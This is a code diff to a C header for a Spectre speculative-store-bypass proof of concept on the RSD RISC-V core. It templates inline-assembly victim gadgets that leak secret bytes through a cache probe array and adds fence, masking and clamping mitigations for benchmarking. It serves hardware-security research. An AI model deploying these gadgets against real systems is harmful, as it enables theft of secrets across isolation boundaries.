@@ -5,172 +5,253 @@
 uint8_t anchorVar = 0;
 
 uint8_t shift_base = 2;
-uint32_t tempArray[ARRAY_SIZE_FACTOR];
+RSD_NOINIT uint32_t tempArray[ARRAY_SIZE_FACTOR]; // Every slot is stored before it is loaded.
 uint32_t tempArrayIndex = 1;
 uint32_t tempArrayIndexInit = 2;
 
-void victimFuncInit(uint32_t targetIdx)
-{
+/**
+ * Speculation window: the address of the store in the gadget is delayed by a chain of VICTIM_DELAY_LENGTH
+ * dependent divisions by shift_base (= 2), which undo the shift by VICTIM_DELAY_LENGTH in front of it.
+ * A longer chain gives the bypassing load more time, but costs cycles in every round.
+ */
+#ifndef VICTIM_DELAY_LENGTH
+#define VICTIM_DELAY_LENGTH 4
+#endif
+#if VICTIM_DELAY_LENGTH < 1 || VICTIM_DELAY_LENGTH > 30
+#error "VICTIM_DELAY_LENGTH must be 1 to 30, tempArrayIndexInit << VICTIM_DELAY_LENGTH has to fit in 32 bits."
+#endif
+
+#define VICTIM_DELAY_FDIV 0 // fdiv.s chain through fa4/fa5.
+#define VICTIM_DELAY_DIVU 1 // divu chain on the integer register itself.
+#ifndef VICTIM_DELAY_INSN
+#define VICTIM_DELAY_INSN VICTIM_DELAY_FDIV
+#endif
+
+// GADGET_DELAY divides %[inout] by %[in] VICTIM_DELAY_LENGTH times, clobbering GADGET_DELAY_CLOBBERS.
+#if VICTIM_DELAY_INSN == VICTIM_DELAY_FDIV
+#define GADGET_DELAY_ROW "fdiv.s	fa5, fa5, fa4\n"
+#define GADGET_DELAY \
+	"fcvt.s.wu	fa4, %[in]\n" \
+	"fcvt.s.wu	fa5, %[inout]\n" \
+	GADGET_DELAY_ROWS \
+	"fcvt.wu.s	%[inout], fa5, rtz\n"
+#define GADGET_DELAY_CLOBBERS "fa4", "fa5",
+#elif VICTIM_DELAY_INSN == VICTIM_DELAY_DIVU
+#define GADGET_DELAY_ROW "divu	%[inout], %[inout], %[in]\n"
+#define GADGET_DELAY GADGET_DELAY_ROWS
+#define GADGET_DELAY_CLOBBERS
+#else
+#error "Unknown VICTIM_DELAY_INSN."
+#endif
+
+// GADGET_DELAY_ROWS is VICTIM_DELAY_LENGTH copies of GADGET_DELAY_ROW, put together from its binary digits.
+// (GADGET_REPEAT can not be used here, since the gadgets themselves are stamped out by GADGET_REPEAT.)
+#define GADGET_DELAY_ROWS_1 GADGET_DELAY_ROW
+#define GADGET_DELAY_ROWS_2 GADGET_DELAY_ROWS_1 GADGET_DELAY_ROWS_1
+#define GADGET_DELAY_ROWS_4 GADGET_DELAY_ROWS_2 GADGET_DELAY_ROWS_2
+#define GADGET_DELAY_ROWS_8 GADGET_DELAY_ROWS_4 GADGET_DELAY_ROWS_4
+#define GADGET_DELAY_ROWS_16 GADGET_DELAY_ROWS_8 GADGET_DELAY_ROWS_8
+#if VICTIM_DELAY_LENGTH & 1
+#define GADGET_DELAY_BIT_0 GADGET_DELAY_ROWS_1
+#else
+#define GADGET_DELAY_BIT_0
+#endif
+#if VICTIM_DELAY_LENGTH & 2
+#define GADGET_DELAY_BIT_1 GADGET_DELAY_ROWS_2
+#else
+#define GADGET_DELAY_BIT_1
+#endif
+#if VICTIM_DELAY_LENGTH & 4
+#define GADGET_DELAY_BIT_2 GADGET_DELAY_ROWS_4
+#else
+#define GADGET_DELAY_BIT_2
+#endif
+#if VICTIM_DELAY_LENGTH & 8
+#define GADGET_DELAY_BIT_3 GADGET_DELAY_ROWS_8
+#else
+#define GADGET_DELAY_BIT_3
+#endif
+#if VICTIM_DELAY_LENGTH & 16
+#define GADGET_DELAY_BIT_4 GADGET_DELAY_ROWS_16
+#else
+#define GADGET_DELAY_BIT_4
+#endif
+#define GADGET_DELAY_ROWS GADGET_DELAY_BIT_0 GADGET_DELAY_BIT_1 GADGET_DELAY_BIT_2 GADGET_DELAY_BIT_3 GADGET_DELAY_BIT_4
+
+/**
+ * Mitigation built into every gadget instance, to weigh its cost against the leakage it leaves (make bench-mitigation).
+ * - VICTIM_MITIGATION_FENCE: a store-load fence (fence w, r) between the delayed store and the load of tempArray[slot],
+ *   so that the load can not issue before the store.
+ * - VICTIM_MITIGATION_SLH: speculative load hardening style masking. The loaded index is ANDed with a mask computed
+ *   from the store address (all ones, but only once that address is known), so nothing depends on a stale value
+ *   before the memory ordering check of the store can catch it.
+ * - VICTIM_MITIGATION_CLAMP: the loaded index is clamped to the bounds of guideArray without a branch,
+ *   so a stale out-of-bounds index reads guideArray[ARRAY_SIZE_FACTOR - 1] instead of the secret.
+ * GADGET_MITIGATE_STORE goes right behind the delayed store and GADGET_MITIGATE_LOAD right behind the load;
+ * both may use %[poison] as a scratch register.
+ */
+#define VICTIM_MITIGATION_NONE 0
+#define VICTIM_MITIGATION_FENCE 1
+#define VICTIM_MITIGATION_SLH 2
+#define VICTIM_MITIGATION_CLAMP 3
+#ifndef VICTIM_MITIGATION
+#define VICTIM_MITIGATION VICTIM_MITIGATION_NONE
+#endif
+
+#if VICTIM_MITIGATION == VICTIM_MITIGATION_NONE
+#define VICTIM_MITIGATION_SUFFIX ""
+#define GADGET_MITIGATE_STORE
+#define GADGET_MITIGATE_LOAD
+#elif VICTIM_MITIGATION == VICTIM_MITIGATION_FENCE
+#define VICTIM_MITIGATION_SUFFIX "+fence"
+#define GADGET_MITIGATE_STORE "fence	w, r\n"
+#define GADGET_MITIGATE_LOAD
+#elif VICTIM_MITIGATION == VICTIM_MITIGATION_SLH
+#define VICTIM_MITIGATION_SUFFIX "+slh"
+#define GADGET_MITIGATE_STORE
+#define GADGET_MITIGATE_LOAD \
+	"sub	%[poison], %[inout], %[inout]\n" \
+	"addi	%[poison], %[poison], -1\n" \
+	"and	%[probe], %[probe], %[poison]\n"
+#elif VICTIM_MITIGATION == VICTIM_MITIGATION_CLAMP
+#define VICTIM_MITIGATION_SUFFIX "+clamp"
+#define GADGET_MITIGATE_STORE
+// poison = 0 in bounds, all ones out of bounds, which the andi turns into the last index.
+#define GADGET_MITIGATE_LOAD \
+	"sltiu	%[poison], %[probe], %[bound]\n" \
+	"addi	%[poison], %[poison], -1\n" \
+	"or	%[probe], %[probe], %[poison]\n" \
+	"andi	%[probe], %[probe], %[bound] - 1\n"
+_Static_assert(ARRAY_SIZE_FACTOR < 2048,
+	"VICTIM_MITIGATION_CLAMP needs ARRAY_SIZE_FACTOR (sltiu) and ARRAY_SIZE_FACTOR - 1 (andi) to fit in a 12-bit signed immediate");
+#else
+#error "Unknown VICTIM_MITIGATION."
+#endif
+
+/**
+ * Template of the Spectre-SSB victim gadget.
+ * tempArray[slot] is stored with targetIdx first, then overwritten through an index (indexVar) whose address
+ * is delayed by GADGET_DELAY. The succeeding load of tempArray[slot] may bypass that store speculatively
+ * and "quickly" load the stale targetIdx, which leaves its trace in probeArray.
+ * Only the LEAK_BITS bits of the secret selected by shift are encoded, see LEAK_SLICE in receiver.h.
+ * The whole sequence is one asm block, so that it is the same at any optimization level:
+ * the compiler would otherwise forward the first store to the load itself, and there would be nothing left to bypass.
+ * Each instance is a SENDER_FN, so that it keeps its own PC and predictor history.
+ * VICTIM_MITIGATION hardens it, see above.
+ * Note: no // comments inside this macro, since they would swallow the line continuations.
+ */
+#define GADGET_TEMPLATE(name, slot, indexVar) \
+SENDER_FN void name(uint32_t targetIdx, uint32_t shift){ \
+	register uint32_t __index = indexVar; \
+	register uint32_t __probe; \
+	register uint32_t __poison; \
+	asm volatile("sw	%[target], %[slotOffset](%[temp])\n" \
+		"slli	%[inout], %[inout], %[delay]\n" \
+		GADGET_DELAY \
+		"slli	%[inout], %[inout], 2\n" \
+		"add	%[inout], %[inout], %[temp]\n" \
+		"sw	zero, 0(%[inout])\n" \
+		GADGET_MITIGATE_STORE \
+		/* "Quickly" load that value from that memory location. */ \
+		"lw	%[probe], %[slotOffset](%[temp])\n" \
+		GADGET_MITIGATE_LOAD \
+		"add	%[probe], %[probe], %[guide]\n" \
+		"lbu	%[probe], 0(%[probe])\n" \
+		"srl	%[probe], %[probe], %[shiftBy]\n" \
+		"andi	%[probe], %[probe], %[mask]\n" \
+		"slli	%[probe], %[probe], %[strideBits]\n" \
+		"add	%[probe], %[probe], %[probeBase]\n" \
+		"lbu	%[probe], 0(%[probe])\n" \
+		: [inout] "+&r" (__index), [probe] "=&r" (__probe), [poison] "=&r" (__poison) \
+		: [target] "r" (targetIdx), [shiftBy] "r" (shift), [in] "r" ((uint32_t)shift_base), \
+		  [temp] "r" (tempArray), [guide] "r" (guideArray), [probeBase] "r" (probeArray + PROBE_OFFSET), \
+		  [slotOffset] "i" ((slot) * sizeof(tempArray[0])), [delay] "i" (VICTIM_DELAY_LENGTH), \
+		  [mask] "i" (LEAK_SLICE_VALUES - 1), [strideBits] "i" (ARRAY_STRIDE_BITS), [bound] "i" (ARRAY_SIZE_FACTOR) \
+		: GADGET_DELAY_CLOBBERS "memory"); \
+	anchorVar &= __probe; \
+}
+
 /* Use a different index of tempArray to avoid effect of initial instruction cache miss.
  * Basically the form is kept the same as succeeding formal victimFunc since it is expected to simulate real scenes
  * where attacker has no access to valid address like targetIdx.
  */
-	tempArray[2] = targetIdx;
-    tempArrayIndexInit = tempArrayIndexInit << 4;
-    asm("fcvt.s.wu fa4, %[in]\n"
-        "fcvt.s.wu fa5, %[inout]\n"
-        "fdiv.s fa5, fa5, fa4\n"
-        "fdiv.s fa5, fa5, fa4\n"
-        "fdiv.s fa5, fa5, fa4\n"
-        "fdiv.s fa5, fa5, fa4\n"
-        "fcvt.wu.s %[out], fa5, rtz\n"
-        : [out] "=r" (tempArrayIndexInit)
-        : [inout] "r" (tempArrayIndexInit), [in] "r" (shift_base)
-        : "fa4", "fa5");
-    tempArray[tempArrayIndexInit] = 0;
-	anchorVar &= probeArray[guideArray[tempArray[2]] * ARRAY_STRIDE];
-}
+GADGET_TEMPLATE(victimFuncInit, 2, tempArrayIndexInit)
 
-void victimFunc_00(uint32_t targetIdx){
-
-	tempArray[1] = targetIdx;
-
-	tempArrayIndex = tempArrayIndex << 4;
-	asm("fcvt.s.wu	fa4, %[in]\n"
-		"fcvt.s.wu	fa5, %[inout]\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		// Adjust tempArrayIndex value and increase fdiv rows to improve accuracy.
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-		"fcvt.wu.s	%[out], fa5, rtz\n"
-		: [out] "=r" (tempArrayIndex)
-		: [inout] "r" (tempArrayIndex), [in] "r" (shift_base)
-		: "fa4", "fa5");
-
-	tempArray[tempArrayIndex] = 0;
-	// "Quickly" load that value from that memory location.
-	anchorVar &= probeArray[guideArray[tempArray[1]] * ARRAY_STRIDE];
-}
+/**
+ * Every secret byte is attacked with its own victimFunc_NN instance.
+ * The copies have to be distinct functions (distinct PCs) so that each one keeps its own
+ * branch and memory dependence predictor history, i.e. an instance already "caught" by MDP
+ * on a previous byte will not spoil the next one. They are stamped out below at build time.
+ * In streaming mode (STREAM_LENGTH) there are more bytes than instances, so they are reused round-robin:
+ * byte n runs on instance n % VICTIM_FUNC_COUNT, which has seen VICTIM_FUNC_COUNT bytes pass since its last turn.
+ */
+#ifndef VICTIM_FUNC_COUNT
+#if STREAM_LENGTH
+#define VICTIM_FUNC_COUNT 32
+#else
+#define VICTIM_FUNC_COUNT SECRET_LENGTH // Must expand to a plain integer literal, e.g. -DVICTIM_FUNC_COUNT=16.
+#endif
+#endif
+#define VICTIM_FUNC_MAX 32 // Extend GADGET_REPEAT_n below for more.
 
-void victimFunc_01(uint32_t targetIdx){
-
-	tempArray[1] = targetIdx;
-
-	tempArrayIndex = tempArrayIndex << 4;
-	asm("fcvt.s.wu	fa4, %[in]\n"
-		"fcvt.s.wu	fa5, %[inout]\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		// Adjust tempArrayIndex value and increase fdiv rows to improve accuracy.
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-		"fcvt.wu.s	%[out], fa5, rtz\n"
-		: [out] "=r" (tempArrayIndex)
-		: [inout] "r" (tempArrayIndex), [in] "r" (shift_base)
-		: "fa4", "fa5");
-
-	tempArray[tempArrayIndex] = 0;
-	// "Quickly" load that value from that memory location.
-	anchorVar &= probeArray[guideArray[tempArray[1]] * ARRAY_STRIDE];
-}
+#if VICTIM_FUNC_COUNT > VICTIM_FUNC_MAX
+#error "VICTIM_FUNC_COUNT exceeds VICTIM_FUNC_MAX, extend GADGET_REPEAT_n in gadget.h."
+#endif
+#if !STREAM_LENGTH && VICTIM_FUNC_COUNT < SECRET_LENGTH
+#error "Each secret byte needs its own victimFunc instance: VICTIM_FUNC_COUNT must be no smaller than SECRET_LENGTH."
+#endif
 
-void victimFunc_02(uint32_t targetIdx){
-
-	tempArray[1] = targetIdx;
-
-	tempArrayIndex = tempArrayIndex << 4;
-	asm("fcvt.s.wu	fa4, %[in]\n"
-		"fcvt.s.wu	fa5, %[inout]\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		// Adjust tempArrayIndex value and increase fdiv rows to improve accuracy.
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-		"fcvt.wu.s	%[out], fa5, rtz\n"
-		: [out] "=r" (tempArrayIndex)
-		: [inout] "r" (tempArrayIndex), [in] "r" (shift_base)
-		: "fa4", "fa5");
-
-	tempArray[tempArrayIndex] = 0;
-	// "Quickly" load that value from that memory location.
-	anchorVar &= probeArray[guideArray[tempArray[1]] * ARRAY_STRIDE];
-}
+// GADGET_REPEAT(n, M) expands to M(00) M(01) ... M(n-1).
+#define GADGET_CAT_(a, b) a##b
+#define GADGET_CAT(a, b) GADGET_CAT_(a, b)
+#define GADGET_REPEAT(n, M) GADGET_CAT(GADGET_REPEAT_, n)(M)
+#define GADGET_REPEAT_0(M)
+#define GADGET_REPEAT_1(M) GADGET_REPEAT_0(M) M(00)
+#define GADGET_REPEAT_2(M) GADGET_REPEAT_1(M) M(01)
+#define GADGET_REPEAT_3(M) GADGET_REPEAT_2(M) M(02)
+#define GADGET_REPEAT_4(M) GADGET_REPEAT_3(M) M(03)
+#define GADGET_REPEAT_5(M) GADGET_REPEAT_4(M) M(04)
+#define GADGET_REPEAT_6(M) GADGET_REPEAT_5(M) M(05)
+#define GADGET_REPEAT_7(M) GADGET_REPEAT_6(M) M(06)
+#define GADGET_REPEAT_8(M) GADGET_REPEAT_7(M) M(07)
+#define GADGET_REPEAT_9(M) GADGET_REPEAT_8(M) M(08)
+#define GADGET_REPEAT_10(M) GADGET_REPEAT_9(M) M(09)
+#define GADGET_REPEAT_11(M) GADGET_REPEAT_10(M) M(10)
+#define GADGET_REPEAT_12(M) GADGET_REPEAT_11(M) M(11)
+#define GADGET_REPEAT_13(M) GADGET_REPEAT_12(M) M(12)
+#define GADGET_REPEAT_14(M) GADGET_REPEAT_13(M) M(13)
+#define GADGET_REPEAT_15(M) GADGET_REPEAT_14(M) M(14)
+#define GADGET_REPEAT_16(M) GADGET_REPEAT_15(M) M(15)
+#define GADGET_REPEAT_17(M) GADGET_REPEAT_16(M) M(16)
+#define GADGET_REPEAT_18(M) GADGET_REPEAT_17(M) M(17)
+#define GADGET_REPEAT_19(M) GADGET_REPEAT_18(M) M(18)
+#define GADGET_REPEAT_20(M) GADGET_REPEAT_19(M) M(19)
+#define GADGET_REPEAT_21(M) GADGET_REPEAT_20(M) M(20)
+#define GADGET_REPEAT_22(M) GADGET_REPEAT_21(M) M(21)
+#define GADGET_REPEAT_23(M) GADGET_REPEAT_22(M) M(22)
+#define GADGET_REPEAT_24(M) GADGET_REPEAT_23(M) M(23)
+#define GADGET_REPEAT_25(M) GADGET_REPEAT_24(M) M(24)
+#define GADGET_REPEAT_26(M) GADGET_REPEAT_25(M) M(25)
+#define GADGET_REPEAT_27(M) GADGET_REPEAT_26(M) M(26)
+#define GADGET_REPEAT_28(M) GADGET_REPEAT_27(M) M(27)
+#define GADGET_REPEAT_29(M) GADGET_REPEAT_28(M) M(28)
+#define GADGET_REPEAT_30(M) GADGET_REPEAT_29(M) M(29)
+#define GADGET_REPEAT_31(M) GADGET_REPEAT_30(M) M(30)
+#define GADGET_REPEAT_32(M) GADGET_REPEAT_31(M) M(31)
 
-void victimFunc_03(uint32_t targetIdx){
-
-	tempArray[1] = targetIdx;
-
-	tempArrayIndex = tempArrayIndex << 4;
-	asm("fcvt.s.wu	fa4, %[in]\n"
-		"fcvt.s.wu	fa5, %[inout]\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		// Adjust tempArrayIndex value and increase fdiv rows to improve accuracy.
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-		"fcvt.wu.s	%[out], fa5, rtz\n"
-		: [out] "=r" (tempArrayIndex)
-		: [inout] "r" (tempArrayIndex), [in] "r" (shift_base)
-		: "fa4", "fa5");
-
-	tempArray[tempArrayIndex] = 0;
-	// "Quickly" load that value from that memory location.
-	anchorVar &= probeArray[guideArray[tempArray[1]] * ARRAY_STRIDE];
-}
+#define VICTIM_FUNC_DEFINE(n) GADGET_TEMPLATE(victimFunc_##n, 1, tempArrayIndex)
+#define VICTIM_FUNC_ENTRY(n) victimFunc_##n,
 
-void victimFunc_04(uint32_t targetIdx){
-
-	tempArray[1] = targetIdx;
-
-	tempArrayIndex = tempArrayIndex << 4;
-	asm("fcvt.s.wu	fa4, %[in]\n"
-		"fcvt.s.wu	fa5, %[inout]\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		"fdiv.s	fa5, fa5, fa4\n"
-		// Adjust tempArrayIndex value and increase fdiv rows to improve accuracy.
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-//		"fdiv.s	fa5, fa5, fa4\n"
-		"fcvt.wu.s	%[out], fa5, rtz\n"
-		: [out] "=r" (tempArrayIndex)
-		: [inout] "r" (tempArrayIndex), [in] "r" (shift_base)
-		: "fa4", "fa5");
-
-	tempArray[tempArrayIndex] = 0;
-	// "Quickly" load that value from that memory location.
-	anchorVar &= probeArray[guideArray[tempArray[1]] * ARRAY_STRIDE];
-}
+GADGET_REPEAT(VICTIM_FUNC_COUNT, VICTIM_FUNC_DEFINE)
 
-// (Obsolete since RSD will also predict victimFunc[](uint32_t). Need to directly call victimFunc_n above from main.)
+// (Obsolete since RSD will also predict victimFunc[](uint32_t, uint32_t). Need to directly call victimFunc_n above from main.)
 /* Limited by nature of C language and current capability of RSD, the size of victimFunc array has to be static.
- * Size of this array should be the same as SECRET_LENGTH in main body of the source code.
+ * It is generated together with the instances above and checked against SECRET_LENGTH.
  */
-void (*victimFunc[])(uint32_t) = {
-    victimFunc_00,
-    victimFunc_01,
-    victimFunc_02,
-    victimFunc_03,
-    victimFunc_04, 
+void (*victimFunc[])(uint32_t, uint32_t) = {
+	GADGET_REPEAT(VICTIM_FUNC_COUNT, VICTIM_FUNC_ENTRY)
 };
 
+_Static_assert(sizeof(victimFunc) / sizeof(victimFunc[0]) >= SECRET_LENGTH, "victimFunc[] is shorter than SECRET_LENGTH.");
+
 #endif